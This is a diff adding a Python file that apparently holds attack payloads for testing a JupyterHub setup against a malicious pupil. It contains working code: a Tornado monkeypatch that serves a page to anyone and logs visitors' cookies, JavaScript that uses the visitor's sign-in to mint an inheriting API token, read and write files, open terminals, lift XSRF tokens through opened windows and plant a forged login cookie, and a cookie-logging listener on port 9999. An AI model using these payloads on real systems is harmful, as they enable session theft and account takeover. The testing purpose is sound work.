@@ -1,0 +1,88 @@
+"""What a pupil may try who wants more than is theirs: pages of their own, and programs."""
+
+# Jupyter reads it from the pupil's home, so each of the pupil's servers answers /gift to anybody,
+# and remembers what browsers send with it.
+SERVER = """
+from pathlib import Path
+from tornado import web
+
+class Gift(web.RequestHandler):
+    def get(self):
+        with open(Path.home() / "cookies", "a") as file:
+            file.write(self.request.headers.get("Cookie", "") + "\\n")
+        self.write((Path.home() / "gift.html").read_text())
+
+find_handler = web.Application.find_handler
+def find_mine(self, request, **rest):
+    if request.path.endswith("/gift"):
+        return self.get_handler_delegate(request, Gift)
+    return find_handler(self, request, **rest)
+web.Application.find_handler = find_mine
+"""
+# The page: it uses the sign-in of who opens it, by requests and by windows whose scripts it calls.
+PAGE = """
+<script>
+const [hub, server, name] = JSON.parse(decodeURIComponent(location.hash.slice(1)));
+const tokens = `${hub}/hub/api/users/${name}/tokens`;
+const rights = JSON.stringify({scopes: ["inherit"], note: "stolen"});
+const ask = (way, address, method, token, body, more) =>
+    way(address, {method, body, headers: token ? {"X-XSRFToken": token} : {}, ...more,
+                  credentials: "include"})
+        .then(async answer => [answer.status, (await answer.text()).slice(0, 200)]);
+async function inside(address) {
+    const other = open(address);
+    for (let i = 0; i < 100; i++) {
+        await new Promise(next => setTimeout(next, 100));
+        const {location, document} = other;
+        if (location.href !== "about:blank" && document.readyState === "complete") break;
+    }
+    return other;
+}
+const token = other => other.document.cookie.match(/_xsrf=([^;]+)/)[1];
+const tries = {
+    users: () => ask(fetch, `${hub}/hub/api/users`, "GET"),
+    mint: () => ask(fetch, tokens, "POST", null, rights),
+    files: () => ask(fetch, `${server}/api/contents`, "GET"),
+    terminal: () => ask(fetch, `${server}/api/terminals`, "POST"),
+    blindly: () => ask(fetch, tokens, "POST", null, rights, {mode: "no-cors"}),
+    "window: mint": async () => {
+        const other = await inside(`${hub}/hub/token`);
+        return ask(other.fetch, tokens, "POST", token(other), rights);
+    },
+    "window: files": async () => {
+        const other = await inside(`${server}/lab`);
+        return ask(other.fetch, `${server}/api/contents`, "GET", token(other));
+    },
+    "window: write": async () => {
+        const other = await inside(`${server}/lab`);
+        const file = JSON.stringify({type: "file", format: "text", content: "mine"});
+        return ask(other.fetch, `${server}/api/contents/stolen`, "PUT", token(other), file);
+    },
+    "window: terminal": async () => {
+        const other = await inside(`${server}/lab`);
+        return ask(other.fetch, `${server}/api/terminals`, "POST", token(other));
+    },
+};
+(async () => {
+    const happened = {};
+    for (const [what, attempt] of Object.entries(tries))
+        happened[what] = await attempt().catch(error => [0, String(error)]);
+    const domain = location.hostname.split(".").slice(1).join(".");
+    document.cookie = `jupyterhub-hub-login=mine; Domain=${domain}; Path=/hub/`;
+    window.happened = happened;
+})();
+</script>
+"""
+# A web server for whoever comes, at this port of the machine; it remembers cookies, too.
+PORT = 9999
+LISTENER = f"""
+import http.server
+class Gift(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open("cookies-of-the-port", "a") as file:
+            file.write(self.headers.get("Cookie", "") + chr(10))
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(b"gift")
+http.server.ThreadingHTTPServer(("", {PORT}), Gift).serve_forever()
+"""
